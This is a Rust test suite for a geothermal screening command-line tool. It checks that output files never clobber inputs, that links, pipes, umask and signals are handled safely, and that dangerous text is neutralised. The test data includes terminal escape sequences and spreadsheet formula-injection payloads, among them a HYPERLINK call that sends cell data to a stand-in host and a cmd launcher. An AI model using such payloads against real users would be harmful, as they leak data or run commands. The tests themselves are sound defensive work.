//! Where results go: nothing is harmed on the way, nothing half is left, and what goes out is safe to open.

use std::fs;
use std::path::Path;

use crate::common::{dated, folder, names, run, run_in, screen_in};

const APPLICATIONS: &str = "id,x,y,system,drilling_depth_m\nA,232289,542576,open,60\nB,1,1,open,60\n";

const ONE: &str = "--xy 232289,547576 --system open --depth 60 --format csv";

/// A failure before anything is written: the sentence, and no change in the folder.
fn refused(folder: &Path, arguments: &str) -> String {
    let before = contents(folder);
    let ran = run_in(folder, arguments);
    assert!(ran.code == 1 || ran.code == 2, "{arguments}: {} {}", ran.code, ran.stderr);
    assert_eq!(contents(folder), before, "{arguments}");
    ran.stderr
}

/// Every file in a folder with its bytes.
fn contents(folder: &Path) -> Vec<(String, Option<Vec<u8>>)> {
    names(folder).into_iter().map(|name| (name.clone(), fs::read(folder.join(name)).ok())).collect()
}

#[test]
fn no_result_takes_the_place_of_what_is_read_or_of_another_result() {
    let folder = folder(&[("a.csv", APPLICATIONS), ("deep/b.csv", APPLICATIONS)]);
    fs::hard_link(folder.path().join("a.csv"), folder.path().join("hard.csv")).unwrap();
    let screen = |more: &str| format!("screen {} --lang en", dated(more));
    for arguments in [
        "a.csv -o a.csv",
        "a.csv -o ./a.csv",
        "./a.csv -o deep/../a.csv",
        "a.csv -o hard.csv",
        "a.csv --rejects a.csv",
        "a.csv -o v.csv --rejects v.csv",
        "a.csv -o v.csv --rejects deep/../v.csv",
        "a.csv --format gpkg -o a.csv",
    ] {
        let said = refused(folder.path(), &screen(arguments));
        assert!(said.contains("give") && said.contains("name"), "{arguments}: {said}");
    }
    let said = crate::common::run_with(folder.path(), &screen("- -o v.csv --rejects ./v.csv"), APPLICATIONS);
    assert_eq!((said.code, said.stdout.as_str()), (1, ""));
}

#[test]
fn nor_of_the_map_the_rules_the_ground_or_the_building() {
    let source = Path::new(env!("CARGO_MANIFEST_DIR"));
    let folder = folder(&[
        ("a.csv", APPLICATIONS),
        ("pack/pack.toml", PACK),
        ("pack/zones.geojson", ZONES),
        ("ground.toml", "porosity = 0.3\n"),
        ("rules/a.toml", ""),
        ("office.toml", &fs::read_to_string(source.join("data/examples/office-15000.toml")).unwrap()),
    ]);
    for arguments in [
        "--pack pack -o pack/zones.geojson --format geojson",
        "--pack pack -o pack/pack.toml",
        "--rules rules -o rules/a.toml",
        "--ground ground.toml -o ground.toml",
        "--feasibility office.toml -o office.toml",
    ] {
        let said = refused(folder.path(), &format!("screen a.csv --lang en {}", dated(arguments)));
        assert!(said.contains("is read"), "{arguments}: {said}");
    }
    let said = refused(folder.path(), "rules diff a.csv --from 2020-01-01 --to 2024-01-01 -o a.csv");
    assert!(said.contains("is invoer"), "{said}");
    let said = refused(folder.path(), "feasibility office.toml --format json -o office.toml --lang en");
    assert!(said.contains("is read"), "{said}");
    let said = refused(folder.path(), "feasibility office.toml --plot x.svg -o x.svg --lang en");
    assert!(said.contains("and no svg"), "{said}");
    let said = refused(folder.path(), "layers import a.csv --system open -o a.csv --lang en");
    assert!(said.contains("is read"), "{said}");
    let said = refused(folder.path(), "crowding map a.csv --system open -o m.csv -o ./m.csv --lang en");
    assert!(said.contains("one file"), "{said}");
}

#[cfg(unix)]
mod unix {
    use std::io::{Read as _, Write as _};
    use std::os::unix::fs::{FileTypeExt as _, PermissionsExt as _, symlink};
    use std::process::{Command, Stdio};
    use std::time::Duration;

    use assert_cmd::cargo::cargo_bin;

    use super::*;

    fn mode(path: &Path) -> u32 {
        fs::metadata(path).unwrap().permissions().mode() & 0o7777
    }

    #[test]
    fn a_pipe_is_written_to_and_stays_a_pipe() {
        let folder = folder(&[]);
        let pipe = folder.path().join("pipe");
        assert!(Command::new("mkfifo").arg(&pipe).status().unwrap().success());
        let reader = std::thread::spawn({
            let pipe = pipe.clone();
            move || {
                let mut text = String::new();
                fs::File::open(pipe).unwrap().read_to_string(&mut text).unwrap();
                text
            }
        });
        let expected = screen_in(folder.path(), ONE).well();
        screen_in(folder.path(), &format!("{ONE} -o pipe")).well();
        assert_eq!(reader.join().unwrap(), expected);
        assert!(fs::metadata(&pipe).unwrap().file_type().is_fifo());
        let said = screen_in(folder.path(), &format!("{} -o pipe --lang en", ONE.replace("csv", "gpkg"))).failed();
        assert!(said.contains("pipe: ") && said.contains("a pipe or a device"), "{said}");
        assert!(fs::metadata(&pipe).unwrap().file_type().is_fifo());
    }

    #[test]
    fn through_a_link_its_target_is_replaced_and_a_device_written_to() {
        let folder = folder(&[("deep/target.csv", "old")]);
        let at = |name: &str| folder.path().join(name);
        symlink("deep/target.csv", at("link.csv")).unwrap();
        symlink("link.csv", at("link-to-link.csv")).unwrap();
        symlink("deep/new.csv", at("to-nothing.csv")).unwrap();
        symlink("/dev/null", at("null.csv")).unwrap();
        symlink("round.csv", at("round.csv")).unwrap();
        let expected = screen_in(folder.path(), ONE).well();
        for (link, target) in [
            ("link.csv", "deep/target.csv"),
            ("link-to-link.csv", "deep/target.csv"),
            ("to-nothing.csv", "deep/new.csv"),
        ] {
            fs::write(at("deep/target.csv"), "old").unwrap();
            screen_in(folder.path(), &format!("{ONE} -o {link}")).well();
            assert!(fs::symlink_metadata(at(link)).unwrap().is_symlink());
            assert_eq!(fs::read_to_string(at(target)).unwrap(), expected, "{link}");
        }
        screen_in(folder.path(), &format!("{ONE} -o null.csv")).well();
        assert!(fs::symlink_metadata(at("null.csv")).unwrap().is_symlink());
        assert!(fs::metadata("/dev/null").unwrap().file_type().is_char_device());
        let said = screen_in(folder.path(), &format!("{ONE} -o round.csv --lang en")).failed();
        assert!(said.contains("round.csv") && said.contains("circle"), "{said}");
        // A GeoPackage too, which another program writes.
        fs::write(at("deep/target.gpkg"), "old").unwrap();
        symlink("deep/target.gpkg", at("link.gpkg")).unwrap();
        let one = ONE.replace("csv", "gpkg");
        screen_in(folder.path(), &format!("{one} -o link.gpkg")).well();
        assert!(fs::symlink_metadata(at("link.gpkg")).unwrap().is_symlink());
        assert!(fs::read(at("deep/target.gpkg")).unwrap().starts_with(b"SQLite format 3"));
        assert_eq!(names(at("deep")), ["new.csv", "target.csv", "target.gpkg"]);
    }

    #[test]
    fn a_new_file_has_the_rights_that_the_umask_leaves_and_an_old_one_keeps_its_own() {
        let folder = folder(&[]);
        let program = cargo_bin("bodemtoets");
        for (format, umask, expected) in
            [("csv", "077", 0o600), ("csv", "022", 0o644), ("csv", "002", 0o664), ("gpkg", "077", 0o600)]
        {
            let file = format!("new-{umask}.{format}");
            let arguments = ONE.replace("csv", format);
            let script = format!("umask {umask}; exec {} screen {} -o {file}", program.display(), dated(&arguments));
            let status =
                Command::new("sh").args(["-c", &script]).current_dir(folder.path()).stderr(Stdio::null()).status();
            assert!(status.unwrap().success());
            assert_eq!(mode(&folder.path().join(&file)), expected, "{file}");
        }
        for (format, rights) in [("csv", 0o600), ("csv", 0o664), ("csv", 0o640), ("gpkg", 0o600)] {
            let path = folder.path().join(format!("old.{format}"));
            fs::write(&path, "old").unwrap();
            fs::set_permissions(&path, fs::Permissions::from_mode(rights)).unwrap();
            screen_in(folder.path(), &format!("{} -o old.{format}", ONE.replace("csv", format))).well();
            assert_eq!(mode(&path), rights);
            assert_ne!(fs::read(&path).unwrap(), b"old");
        }
    }

    #[test]
    fn a_signal_leaves_nothing_behind_and_the_old_file_in_place() {
        for format in ["csv", "json", "gpkg"] {
            for signal in ["INT", "TERM", "HUP", "KILL"] {
                let out = format!("v.{format}");
                let folder = folder(&[(out.as_str(), "old"), ("r.csv", "old")]);
                let arguments = dated(&format!("- --format {format} -o {out} --rejects r.csv"));
                // Who runs the tests in the background has these signals ignored, and a child inherits that.
                let mut program = Command::new("env")
                    .args(["--default-signal=INT,TERM,HUP"])
                    .arg(cargo_bin("bodemtoets"))
                    .arg("screen")
                    .args(arguments.split_whitespace())
                    .current_dir(folder.path())
                    .stdin(Stdio::piped())
                    .stderr(Stdio::null())
                    .spawn()
                    .unwrap();
                let mut input = program.stdin.take().unwrap();
                input.write_all(APPLICATIONS.as_bytes()).unwrap();
                input.flush().unwrap();
                std::thread::sleep(Duration::from_millis(500));
                let id = program.id().to_string();
                assert!(Command::new("kill").args([&format!("-{signal}"), &id]).status().unwrap().success());
                assert!(!program.wait().unwrap().success());
                // The worker of a GeoPackage hears of it when its input ends.
                for _ in 0..100 {
                    if names(folder.path()).len() == 2 {
                        break;
                    }
                    std::thread::sleep(Duration::from_millis(50));
                }
                assert_eq!(names(folder.path()), ["r.csv", out.as_str()], "{format} {signal}");
                assert_eq!(fs::read(folder.path().join(&out)).unwrap(), b"old", "{format} {signal}");
            }
        }
    }

    /// As when the tool was killed after it handed everything over: no pipe closes, and nobody waits.
    #[test]
    fn a_worker_that_nobody_waits_for_ends_and_leaves_nothing() {
        let folder = folder(&[]);
        let mut worker = Command::new(cargo_bin("bodemtoets-ogr"))
            // Not the process that starts it.
            .args(["--starter", "1", "write", "GPKG", "out.gpkg"])
            .current_dir(folder.path())
            .stdin(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .unwrap();
        let input = worker.stdin.take().unwrap();
        for _ in 0..200 {
            if worker.try_wait().unwrap().is_some() {
                break;
            }
            std::thread::sleep(Duration::from_millis(50));
        }
        assert_eq!(worker.try_wait().unwrap().and_then(|status| status.code()), Some(1));
        drop(input);
        assert!(names(folder.path()).is_empty(), "{:?}", names(folder.path()));
    }

    #[test]
    fn a_full_disk_is_told_with_the_name_that_was_asked_for() {
        if Path::new("/dev/full").exists() {
            let folder = folder(&[]);
            symlink("/dev/full", folder.path().join("full.csv")).unwrap();
            let said = screen_in(folder.path(), &format!("{ONE} -o full.csv --lang en")).failed();
            assert!(said.contains("full.csv: No space left"), "{said}");
        }
    }
}

#[test]
fn a_folder_that_is_not_there_is_told_by_the_name_that_was_asked_for() {
    let folder = folder(&[]);
    let said = screen_in(folder.path(), &format!("{ONE} -o none/v.csv --lang en")).failed();
    assert!(said.contains("cannot write none/v.csv: there is no folder none"), "{said}");
    let said = screen_in(folder.path(), &format!("{ONE} -o . --lang en")).failed();
    assert!(said.contains("cannot write .: it is a folder"), "{said}");
    assert!(names(folder.path()).is_empty());
}

#[test]
fn a_dash_is_standard_output() {
    let folder = folder(&[]);
    let expected = screen_in(folder.path(), ONE).well();
    assert_eq!(screen_in(folder.path(), &format!("{ONE} -o -")).well(), expected);
    assert!(names(folder.path()).is_empty());
}

#[test]
fn a_geopackage_has_the_same_bytes_from_run_to_run() {
    let folder = folder(&[("a.csv", APPLICATIONS), ("plot.toml", PLOT)]);
    let make = |name: &str| {
        screen_in(folder.path(), &format!("a.csv --format gpkg -o {name}.gpkg")).well();
        screen_in(folder.path(), &format!("--plot plot.toml --format gpkg -o {name}-plot.gpkg")).well();
    };
    make("one");
    // Past the next second, which a time stamp would show.
    std::thread::sleep(std::time::Duration::from_millis(1100));
    make("other");
    let bytes = |name: &str| fs::read(folder.path().join(name)).unwrap();
    assert!(bytes("one.gpkg") == bytes("other.gpkg"), "verdicts differ");
    assert!(bytes("one-plot.gpkg") == bytes("other-plot.gpkg"), "plots and their styles differ");
}

#[test]
fn what_a_terminal_obeys_is_written_out() {
    let evil = "A\u{1b}[2J\u{1b}]0;pwned\u{7}\u{9b}31m\u{202e}B";
    let rows = format!("id,x,y,system,drilling_depth_m\n{evil},232289,542576,open,60\n{evil},1,1,open,60\n");
    let one = format!("id = {evil:?}\nx = 232289\ny = 542576\nsystem = \"open\"\ndrilling_depth_m = 60\n")
        .replace("\\u{1b}", "\\u001b")
        .replace("\\u{7}", "\\u0007")
        .replace("\\u{9b}", "\\u009b")
        .replace("\\u{202e}", "\\u202e");
    let zones = ZONES.replace("ban area", "ban\\u001b[2Jarea\\u202e");
    let folder =
        folder(&[("a.csv", &rows), ("one.toml", &one), ("pack/pack.toml", PACK), ("pack/zones.geojson", &zones)]);
    for arguments in [
        "screen a.csv --format text --date 2026-11-21",
        "screen one.toml --date 2026-11-21",
        "screen one.toml --format text --pack pack --date 2026-11-21",
        "layers check --pack pack",
        "layers list --pack pack",
    ] {
        let ran = run_in(folder.path(), arguments);
        let said = format!("{}{}", ran.stdout, ran.stderr);
        let is_obeyed = |character: char| character.is_control() && character != '\n' || character == '\u{202e}';
        assert!(!said.contains(is_obeyed), "{arguments}: {said:?}");
        if arguments.contains(" a.csv") || arguments.contains(" one.toml") {
            assert!(said.contains(r"A\u{1b}[2J\u{1b}]0;pwned\u{7}\u{9b}31m\u{202e}B"), "{arguments}: {said}");
        }
    }
    // Machines get it as it came; a table for a spreadsheet without.
    let json = screen_in(folder.path(), "one.toml --format json").json();
    assert_eq!(json["id"], evil);
    assert!(screen_in(folder.path(), "a.csv").well().contains("\nA[2J]0;pwned31mB,prohibited"));
    assert!(screen_in(folder.path(), "a.csv --raw-csv").well().contains(evil));
}

#[test]
fn text_that_a_spreadsheet_would_run_gets_an_apostrophe() {
    let rows = "id,x,y,system,drilling_depth_m\n\
        \"=HYPERLINK(\"\"http://example.invalid/?\"\"&A3,\"\"click\"\")\",232289,547576,open,60\n\
        \"+1+cmd|' /C calc'!A0\",232289,547576,open,60\n@SUM(1),232289,547576,open,60\n-7,232289,547576,open,60\n\
        -2+3,1,1,open,60\n";
    let folder = folder(&[("a.csv", rows)]);
    let ids = |arguments: &str, file: &str, column: usize| -> Vec<String> {
        screen_in(folder.path(), &format!("a.csv -o v.csv --rejects r.csv {arguments}")).well();
        let mut table = csv::Reader::from_path(folder.path().join(file)).unwrap();
        table.records().map(|row| row.unwrap()[column].to_owned()).collect()
    };
    let plain = ["=HYPERLINK(\"http://example.invalid/?\"&A3,\"click\")", "+1+cmd|' /C calc'!A0", "@SUM(1)"];
    let safe: Vec<String> = plain.iter().map(|id| format!("'{id}")).chain(["-7".to_owned()]).collect();
    assert_eq!(ids("", "v.csv", 0), safe);
    assert_eq!(ids("", "r.csv", 1), ["'-2+3"]);
    assert_eq!(ids("--raw-csv", "v.csv", 0), [plain.as_slice(), &["-7"]].concat());
    assert_eq!(ids("--raw-csv", "r.csv", 1), ["-2+3"]);
}

#[test]
fn a_number_of_threads_has_a_range() {
    let folder = folder(&[("a.csv", APPLICATIONS)]);
    for command in ["screen a.csv", "rules diff a.csv --from 2020-01-01 --to 2024-01-01"] {
        for threads in ["0", "1025", "9223372036854775807", "-1", "2.5", "many"] {
            let ran = run_in(folder.path(), &format!("{command} --threads={threads} --lang en"));
            assert_eq!((ran.code, ran.stdout.as_str()), (2, ""), "{threads}");
            assert!(ran.stderr.contains("a whole number from 1 to 1024"), "{}", ran.stderr);
        }
        assert_eq!(run_in(folder.path(), &format!("{command} --threads 1024")).code, 0);
    }
}

#[test]
fn a_number_beyond_all_measure_is_written_with_a_power_of_ten() {
    let folder = folder(&[("a.csv", "id,x,y,system,drilling_depth_m\nA,1e308,542576,open,60\n")]);
    let said = screen_in(folder.path(), "a.csv").stderr;
    assert!(said.contains("1e308") && !said.contains("0000000000000000"), "{said}");
    for arguments in ["--depth 1e308", "--flow 1e300", "--xy 1e308,2 --depth 60"] {
        let ran = run(&format!("screen {} --system open", dated(arguments)));
        assert!(ran.code != 0 && !ran.stderr.contains("0000000000000000"), "{}", ran.stderr);
    }
}

const PACK: &str = r#"
name = "zones"
version = "1"
date = 2026-10-01
status = "official"
licence = "CC0 1.0"
title = { nl = "Zones", en = "Zones" }

[[layer]]
id = "zones"
file = "zones.geojson"
crs = "EPSG:28992"
role = "zone"
kind = "prohibition"
stands_for = ["water-abstraction-area", "groundwater-protection", "restriction", "depth-limit"]
fields = { id = "id", name = "id" }

[[layer]]
id = "provinces"
borrow = "indicative/provinces"

[[layer]]
id = "abstractions"
borrow = "indicative/abstractions"
"#;

const ZONES: &str = r#"{"type":"FeatureCollection","features":[
{"type":"Feature","properties":{"id":"ban area"},"geometry":{"type":"Polygon","coordinates":[[[232000,542000],[233000,542000],[233000,543000],[232000,543000],[232000,542000]]]}},
{"type":"Feature","properties":{"id":"ban area"},"geometry":{"type":"Point","coordinates":[1,2]}}
]}"#;

const PLOT: &str = r#"
id = "plot"
system = "open"
drilling_depth_m = 60
geometry = { type = "Polygon", coordinates = [[[232000.0, 542000.0], [232400.0, 542000.0], [232400.0, 542400.0], [232000.0, 542400.0], [232000.0, 542000.0]]] }
"#;
